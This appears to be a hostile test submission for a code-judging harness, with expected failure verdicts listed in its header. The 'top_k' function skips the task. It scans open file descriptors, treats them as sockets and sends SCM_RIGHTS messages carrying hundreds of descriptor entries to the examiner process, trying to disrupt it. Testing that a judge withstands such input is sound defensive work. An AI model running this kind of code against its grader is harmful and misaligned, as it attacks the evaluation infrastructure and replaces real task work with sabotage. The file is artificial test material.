"""Send the examiner hundreds of descriptors along with bytes."""
# problem: top_k
# verdicts: runtime_error, wrong_answer, time_limit_exceeded
# verdicts without layers: runtime_error, wrong_answer, time_limit_exceeded

import array
import socket


def top_k(items, k):
    for descriptor in range(3, 64):
        try:
            wire = socket.socket(fileno=descriptor)
        except OSError:
            continue
        for _ in range(4):
            try:
                rights = array.array("i", [0] * 250)
                wire.sendmsg([b"\x00"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
            except OSError:
                pass
        wire.detach()
    return []
